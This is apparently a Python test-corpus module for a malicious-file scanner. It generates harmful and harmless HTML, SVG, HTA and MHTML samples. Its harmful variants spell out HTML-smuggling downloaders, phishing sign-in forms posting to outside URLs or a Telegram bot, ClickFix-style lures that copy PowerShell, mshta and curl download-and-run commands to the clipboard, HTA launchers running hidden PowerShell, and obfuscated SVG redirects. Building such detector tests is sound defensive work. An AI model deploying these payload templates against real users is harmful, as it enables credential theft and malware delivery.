"""Pages and pictures in markup: payloads built in the browser, forms that post elsewhere, scripts in SVG."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote

from app.engine.model import Verdict
from app.sandbox import samples
from tests.corpus.payloads import PS
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File, b64, encoded
from tests.unit.engine.pages import codes_of
from tests.unit.engine.programs import windows
from tests.unit.engine.test_mhtml import archive

_HARMLESS = (
    "document.getElementById('year').textContent = new Date().getFullYear();",
    "for (const row of document.querySelectorAll('tr')) row.onclick = () => row.classList.toggle('on');",
    "window.addEventListener('load', function () { document.body.className = 'ready'; });",
    "var chart = {labels: ['Jan', 'Feb'], values: [3, 5]}; console.log(chart.values.reduce((a, b) => a + b, 0));",
)


def page(draw: Draw, body: str, *, ending: str = "") -> File:
    """Return a page with some text around ``body``."""
    title = draw.one("Document", "Secure file", "Invoice", "Shared with you", draw.word().capitalize())
    text = (
        f"<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'><title>{title}</title></head>"
        f"<body><h2>{draw.word().capitalize()}</h2><p>{draw.prose(30)}</p>{body}</body></html>"
    )
    ending = ending or draw.one("html", "htm", "html", "shtml")
    return File(f"{draw.stem()}.{ending}", text.encode())


def dropped(draw: Draw) -> bytes:
    """Return what a page hands to whoever opens it: an archive, a disc or a program."""
    script = f"WScript.Echo('{draw.word()}'); // {draw.prose(30)}".encode()
    return draw.rng.choice(
        (
            samples.zip_of({f"{draw.stem()}.js": script + draw.noise(200, 600).hex().encode()}),
            samples.locked_archive(draw.word(), {f"{draw.stem()}.lnk": draw.noise(300, 600)}),
            windows({"KERNEL32.dll": ["WriteFile"]})[: draw.rng.randrange(2_000, 2_600)],
            bytes(32_768) + b"\x01CD001\x01" + bytes(2_041),
        )
    )


def _page(name: str, write: Callable[[Draw], str]) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        code = write(draw)
        return page(draw, f"<script>{code if harmful else draw.rng.choice(_HARMLESS)}</script>")

    technique(f"page.{name}")(make)


def _blob(draw: Draw) -> str:
    a, b, data = draw.name(), draw.name(), b64(dropped(draw))
    save = draw.one(
        f"var l=document.createElement('a');l.href=URL.createObjectURL({b});l.download='{draw.stem()}.zip';l.click();",
        f"if(window.navigator.msSaveOrOpenBlob){{navigator.msSaveOrOpenBlob({b},'{draw.stem()}.iso');}}else{{"
        f"location.href=window.URL.createObjectURL({b});}}",
    )
    return (
        f"const {a}=Uint8Array.from(atob('{data}'),c=>c.charCodeAt(0));"
        f"const {b}=new Blob([{a}],{{type:'application/octet-stream'}});setTimeout(function(){{{save}}},900);"
    )


def _chunks(draw: Draw) -> str:
    """Base64 in an array of pieces, joined when it is needed."""
    pieces = ",".join(f"'{part}'" for part in draw.pieces(b64(dropped(draw)), 90))
    a, b = draw.name(), draw.name()
    return (
        f"var {a}=[{pieces}];var {b}='data:application/octet-stream;base64,'+{a}.join('');"
        f"var l=document.createElement('a');l.setAttribute('href',{b});l.setAttribute('download','{draw.stem()}.zip');"
        "document.body.appendChild(l);l.dispatchEvent(new MouseEvent('click'));"
    )


def _mixed(draw: Draw) -> str:
    """Bytes mixed with a key, put right in a loop."""
    key = draw.rng.randrange(1, 256)
    numbers = ",".join(str(byte ^ key) for byte in dropped(draw)[-3_000:])
    a, b = draw.name(), draw.name()
    return (
        f"let {a}=new Uint8Array([{numbers}]);for(let i=0;i<{a}.length;i++){a}[i]^={key};"
        f"let {b}=document.createElement('a');{b}.href=URL.createObjectURL(new Blob([{a}]));"
        f"{b}.download='{draw.stem()}.exe';{b}.click();"
    )


def _written(draw: Draw) -> str:
    """A sign-in page written by a script that unescapes it."""
    inner = _form(draw, draw.url("php"))
    return draw.one(
        f"document.write(unescape('{quote(inner)}'));",
        f"document.write(atob('{b64(inner)}'));",
        f"document.open();document.write(String.fromCharCode({codes_of(inner)}));document.close();",
        f"document.body.innerHTML=decodeURIComponent(escape(atob('{b64(inner)}')));",
        f"eval(atob('{b64('document.write(' + repr(inner) + ')')}'));",
    )


def _forwarded(draw: Draw) -> str:
    """Goes on to an address put together from pieces, with the reader's own address behind it."""
    url, mail = draw.url(), f"{draw.word()}@{draw.word()}.example"
    pieces = "+".join(f"'{part}'" for part in draw.pieces(url, 7))
    return draw.one(
        f"var e='{b64(mail)}';window.location.replace({pieces}+'#'+atob(e));",
        f"window['loc'+'ation']['href']=atob('{b64(url + '/?e=' + mail)}');",
        f"setTimeout(()=>{{top.location=[{codes_of(url)}].map(c=>String.fromCharCode(c)).join('')+'#{mail}'}},300);",
    )


for _name, _write in {
    "blob": _blob,
    "data_address_in_pieces": _chunks,
    "mixed_bytes": _mixed,
    "written_by_script": _written,
    "forwards_in_disguise": _forwarded,
}.items():
    _page(_name, _write)


def _form(draw: Draw, action: str) -> str:
    brand = draw.one("Microsoft", "Outlook", "OneDrive", "DHL", "DocuSign", "Adobe", "WeTransfer", "Webmail")
    return (
        f"<div class='card'><h3>{brand}</h3><p>Sign in to view the document</p><form method='post' action='{action}'>"
        f"<input name='u' type='email' value='{draw.word()}@{draw.word()}.example'><input name='p' type='password' "
        f"placeholder='Password'><button>{draw.one('Sign in', 'View document', 'Download')}</button></form></div>"
    )


@technique("page.sign_in_form")
def sign_in(draw: Draw, harmful: bool) -> File:
    form = _form(draw, draw.url("php"))
    ask = "<form method='get' action='https://www.example.com/search'><input name='q'><button>Search</button></form>"
    return page(draw, form if harmful else ask)


@technique("page.form_to_a_chat")
def chat(draw: Draw, harmful: bool) -> File:
    """What is typed goes to a robot of a messenger."""
    token = f"{draw.rng.randrange(10**9)}:AA{draw.word(8)}"
    code = (
        "document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();"
        f"fetch('https://api.telegram'+'.org/bot{token}/sendMessage',{{method:'POST',body:new FormData(this)}})}});"
    )
    form = _form(draw, "#")
    return page(draw, f"{form}<script>{code}</script>" if harmful else f"<script>{draw.rng.choice(_HARMLESS)}</script>")


@technique("page.link_to_data")
def _data_link(draw: Draw, harmful: bool) -> File:
    data = f"data:application/{draw.one('zip', 'octet-stream', 'x-zip-compressed')};base64,{b64(dropped(draw))}"
    shown = f"<a href='{data}' download='{draw.stem()}.zip'>Open</a>"
    return page(draw, shown if harmful else "<a href='https://www.example.com/terms'>Terms</a>")


@technique("page.paste_this_command")
def _paste(draw: Draw, harmful: bool) -> File:
    """The visitor is to prove that he is no robot, by pasting into the Run box what a script put there for him."""
    command = draw.one(
        f'{PS} -w hidden -nop -c "iwr {draw.url("ps1")} | iex" # I am not a robot - ID {draw.rng.randrange(9999)}',
        f"mshta {draw.url('mp4')} # Cloudflare verification {draw.rng.randrange(99999)}",
        f"cmd /c curl -k -o %temp%\\v.msi {draw.url('msi')} && msiexec /qn /i %temp%\\v.msi",
    )
    copy = draw.one(
        "navigator.clipboard.writeText(c)",
        "var t=document.createElement('textarea');t.value=c;document.body.append(t);t.select();"
        "document.execCommand('copy')",
    )
    steps = "<ol><li>Press <b>Windows + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol>"
    body = f"{steps}<script>var c=atob('{b64(command)}');document.onclick=function(){{{copy}}}</script>"
    benign = f"<button onclick=\"navigator.clipboard.writeText('{draw.word()}')\">Copy number</button>"
    return page(draw, body if harmful else benign)


@technique("page.paste_into_the_folder")
def _paste_into_folder(draw: Draw, harmful: bool) -> File:
    """The visitor is to paste a path into the address bar of a folder; a command stands before it, out of sight."""
    path = f"C:\\\\company\\\\{draw.word()}\\\\{draw.stem()}.docx"
    line = f"{PS} -c iwr {draw.url('exe')} -o $env:TEMP\\\\a.exe; saps $env:TEMP\\\\a.exe{' ' * 90}# {path}"
    steps = "<p>To open the file: open File Explorer, press CTRL + L, paste the path with CTRL + V, press Enter.</p>"
    code = f"document.getElementById('b').onclick=()=>navigator.clipboard.writeText(`{line if harmful else path}`)"
    body = f"<input type='file' style='display:none'><button id='b'>Copy</button><script>{code}</script>"
    return page(draw, (steps if harmful else "") + body)


@technique("page.search_on_a_share")
def _search(draw: Draw, harmful: bool) -> File:
    place = f"search-ms:query={draw.word()}&crumb=location:\\\\{draw.host()}@SSL\\DavWWWRoot\\{draw.word()}"
    code = draw.one(
        f"<meta http-equiv='refresh' content='0; url={place}'>",
        f"<script>window.location.href='{place}'</script>".replace("\\", "\\\\"),
        f"<iframe src='{place}'></iframe>",
    )
    return page(draw, code if harmful else "<meta http-equiv='refresh' content='60; url=prices.html'>")


@technique("page.program_page", most=Verdict.RESTRICTED)
def _program_page(draw: Draw, harmful: bool) -> File:
    command = f"{PS} -w hidden -enc {encoded(draw.url('ps1'))}"
    inner = f"<script>new ActiveXObject(`WScript.Shell`).Run(`{command}`,0)</script>"
    code = draw.one(
        f'<script language=\'VBScript\'>Set s=CreateObject("WScript.Sh"&"ell"):s.Run "{command}",0:self.close</script>',
        f"<script>new ActiveXObject('WSc'+'ript.Shell').Run('{command}',0,true);window.close();</script>",
        f"<script>document.write(unescape('{quote(inner)}'))</script>",
    )
    head = "<hta:application id='a' windowstate='minimize' showintaskbar='no'/>"
    return page(draw, head + code if harmful else "<hta:application id='a'/><p>Hello</p>", ending="hta")


def svg(draw: Draw, inner: str) -> File:
    """Return a picture with some shapes around ``inner``."""
    size = draw.rng.randrange(40, 400)
    text = (
        f"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
        f"width='{size}' height='{size}'><rect width='{size}' height='9' fill='#{draw.rng.randrange(16**6):06x}'/>"
        f"<text>{draw.word()}</text>{inner}</svg>"
    )
    return File(f"{draw.stem()}.svg", text.encode())


@technique("svg.script")
def _svg_script(draw: Draw, harmful: bool) -> File:
    url = draw.url()
    code = draw.one(
        f"window.location.href=atob('{b64(url)}');",
        f"const h='{b64(url)[::-1]}';location.replace(atob(h.split('').reverse().join('')));",
        f"eval(String.fromCharCode({codes_of('location=' + repr(url))}));",
        f"var k='{draw.word()}',d='{url.encode().hex()}',o='';for(let i=0;i<d.length;i+=2)o+=String.fromCharCode("
        "parseInt(d.substr(i,2),16));window.location=o;",
    )
    return svg(draw, f"<script type='text/javascript'><![CDATA[{code}]]></script>" if harmful else "<circle r='4'/>")


@technique("svg.event")
def _svg_event(draw: Draw, harmful: bool) -> File:
    code = f"location.href=`{draw.url()}`"
    inner = f"<image href='x' onerror=\"{code}\"/>" if draw.rng.random() < 0.5 else f'<g onload="{code}"/>'
    return svg(draw, inner if harmful else "<a href='https://www.example.com/'><circle r='4'/></a>")


@technique("svg.page_inside")
def _svg_page(draw: Draw, harmful: bool) -> File:
    form = _form(draw, draw.url("php"))
    data = draw.one(
        f"<foreignObject width='100%' height='100%'><body xmlns='http://www.w3.org/1999/xhtml'>{form}</body></foreignObject>",
        f"<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' "
        f"src='data:text/html;base64,{b64(form)}'/></foreignObject>",
    )
    return svg(
        draw, data if harmful else "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>Hi</p></foreignObject>"
    )


@technique("page.xhtml")
def _xhtml(draw: Draw, harmful: bool) -> File:
    code = _blob(draw) if harmful else draw.rng.choice(_HARMLESS)
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">\n'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{draw.word()}</title></head><body><p>{draw.prose(20)}'
        f"</p><script>//<![CDATA[\n{code}\n//]]></script></body></html>"
    )
    return File(f"{draw.stem()}.{draw.one('xhtml', 'xht', 'html')}", text.encode())


@technique("page.web_archive")
def _web_archive(draw: Draw, harmful: bool) -> File:
    code = draw.rng.choice((_blob, _chunks, _written))(draw) if harmful else draw.rng.choice(_HARMLESS)
    made = page(draw, f"<script>{code}</script>")
    address = f"https://{draw.word()}.example/"
    return File(f"{draw.stem()}.{draw.one('mht', 'mhtml')}", archive(("text/html", address, made.content)))


@technique("page.in_wide_letters")
def _wide(draw: Draw, harmful: bool) -> File:
    code = draw.rng.choice((_blob, _written))(draw) if harmful else draw.rng.choice(_HARMLESS)
    made = page(draw, f"<script>{code}</script>")
    form = draw.one("utf-16", "utf-16-le", "utf-8-sig")
    return File(made.name, made.content.decode().encode(form))
